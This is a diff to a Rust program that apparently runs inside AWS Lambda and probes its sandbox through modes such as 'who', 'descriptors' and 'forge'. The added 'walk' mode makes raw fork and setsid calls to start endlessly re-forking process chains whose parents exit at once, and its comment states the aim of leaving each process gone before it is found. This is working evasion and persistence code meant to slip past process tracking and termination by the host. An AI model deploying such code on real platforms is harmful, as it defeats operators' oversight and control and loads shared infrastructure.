@@ -4,6 +4,33 @@
 use std::io::{BufRead, BufReader, Read, Write};
 use std::net::TcpStream;
 
+unsafe extern "C" {
+    fn fork() -> i32;
+    fn setsid() -> i32;
+    fn _exit(code: i32) -> !;
+}
+
+/// Each process is gone before it is found, and has left another, in a session of its own.
+fn walk() -> ! {
+    for _ in 0..3 {
+        // SAFETY: this program has one thread, and the children make system calls only.
+        unsafe {
+            if fork() == 0 {
+                loop {
+                    match fork() {
+                        0 => _ = setsid(),
+                        -1 => {}
+                        _ => _exit(0),
+                    }
+                }
+            }
+        }
+    }
+    loop {
+        std::thread::sleep(std::time::Duration::from_secs(60));
+    }
+}
+
 fn main() {
     let address = std::env::var("AWS_LAMBDA_RUNTIME_API").expect("we are a function");
     let mode = std::env::var("MODE").unwrap_or_default();
@@ -33,6 +60,7 @@ fn main() {
             }
             "descriptors" => descriptors(),
             "who" => who(),
+            "walk" if event.contains("walk") => walk(),
             "forge" => {
                 forge(&address, &event);
                 "\"done\"".to_owned()
